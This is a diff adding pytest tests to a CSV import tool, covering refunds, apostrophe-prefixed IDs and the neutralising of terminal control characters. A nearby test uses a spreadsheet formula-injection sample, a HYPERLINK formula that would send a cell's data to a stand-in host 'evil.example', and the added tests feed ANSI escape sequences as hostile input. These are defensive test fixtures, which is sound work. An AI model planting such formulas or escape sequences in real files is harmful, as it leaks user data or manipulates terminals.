@@ -6,14 +6,17 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import grpc
 import pytest
 
 from chassis.api.currencies import Currency
+from chassis.api.text import NOT_TEXT
 from chassis.cli.imports.columns import columns_for
 from chassis.cli.imports.decoding import UnreadableFile
 from chassis.cli.imports.engine import BATCH_CHARACTERS, Result, Run
 from chassis.cli.imports.fields import Cells, Notation
 from chassis.cli.imports.neutral import neutralised, restored
+from chassis.cli.imports.records import PurchaseImporter
 from chassis.cli.imports.tabular import Row, open_table
 from chassis.cli.main import build, run
 
@@ -207,6 +210,24 @@ def test_payments_that_came_to_nothing_and_further_lines_of_an_order_are_skipped
     assert (code, result["rows"], result["skipped"], result["refused"]) == (0, 4, 2, 0)
 
 
+@pytest.mark.parametrize(
+    ("amount", "refunded", "counts"),
+    [("10", "", 10), ("10", "2.50", 7.5), ("10", "-10", None), ("5", "0", 5)],
+)
+async def test_what_was_given_back_of_a_purchase_is_taken_off(
+    amount: str, refunded: str, counts: float | None
+) -> None:
+    row = cells(email="a@x.example", date="2026-01-02", amount=amount, refunded=refunded)
+    bought = PurchaseImporter(lambda _: grpc.aio.insecure_channel("localhost:1"), "x").parse(row)
+    assert (bought.amount if bought else None, row.row.problems) == (counts, [])
+
+
+def test_the_apostrophe_that_keeps_an_id_text_is_not_of_it() -> None:
+    row = cells(external_id="'00123", phone="'+4930901820", display_name="'s-Gravenhage BV")
+    assert [row.text(field) for field in ("external_id", "phone")] == ["00123", "+4930901820"]
+    assert row.text("display_name") == "'s-Gravenhage BV"
+
+
 def test_what_stays_ambiguous_ends_before_anything_is_done(check: Check) -> None:
     code, _, told = check("purchases", "customer_id,date,amount\na,2026-01-02,12.500\n")
     assert (code, "--decimal" in told) == (2, True)
@@ -243,6 +264,19 @@ def test_refused_rows_are_no_formulas_and_come_back_as_they_were(check: Check, t
     assert first.cells["customer_id"] == '=HYPERLINK("http://evil.example/?"&A1)'
     assert (second.cells["customer_id"], second.extra) == ("@SUM(1+1)", ["more"])
     assert [first.origin, second.origin] == [row.origin for row in source.rows()]
+
+
+def test_control_characters_reach_no_terminal_and_no_errors_file(check: Check, tmp_path: Path) -> None:
+    code, result, _ = check(
+        "customers", "id,na\x1b[31mme\n1,a\x1b[2Jb\n2,a\x00b\x9b\n", "--map", "display_name=na␛[31mme"
+    )
+    written = Path(result["errors_file"]).read_text()
+    assert (code, result["refused"], result["used"]["display_name"]) == (1, 2, "na␛[31mme")
+    assert "a␛[2Jb" in written
+    assert "a␀b␦" in written
+    assert not NOT_TEXT.search(written.replace("\r", ""))
+    (tmp_path / "again.csv").write_text(written)
+    assert check("customers", written, "--map", "display_name=na␛[31mme", name="again.csv")[1]["refused"] == 2
 
 
 @pytest.mark.parametrize("cell", ["=1", "+49 30", "-1", "@x", "'=1", "'", "''=1", "'Anna", "Anna", ""])
